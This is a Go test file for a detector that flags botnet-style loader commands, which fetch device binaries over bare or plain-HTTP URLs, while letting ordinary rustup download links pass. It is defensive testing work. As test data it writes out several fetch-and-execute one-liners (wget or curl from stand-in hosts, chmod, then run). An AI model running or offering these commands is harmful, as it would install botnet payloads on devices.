package bot_test

import (
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestBareBuildFetchedByShell (rev38c): a device build named for its
// processor alone, typed with no scheme after wget or curl on its line
// (a botnet's loader line), is fetched over plain HTTP, not read as
// over TLS: flagged (warned at least) as the same line written http://
// is. The same build
// name typed bare outside a fetch keeps dl38's reading of its https://
// twin.
func TestBareBuildFetchedByShell(t *testing.T) {
	t.Parallel()
	checkLevels(t, true, []levelCase{
		{"cd /tmp; wget botnet-cdn.xyz/bins/x86; chmod 777 x86; ./x86", bot.Warn},
		{"cd /tmp; wget http://botnet-cdn.xyz/bins/x86; chmod 777 x86; ./x86", bot.Warn},
		{"wget kitcdn.top/mips; chmod +x mips; ./mips", bot.Warn},
		{"cd /tmp && curl -O kitcdn.top/arm7 && chmod +x arm7 && ./arm7", bot.Warn},
		// not flagged
		{"rustup for windows on arm: win.rustup.rs/aarch64", bot.Allow},
		{"rustup for windows win.rustup.rs/x86_64", bot.Allow},
	})
}
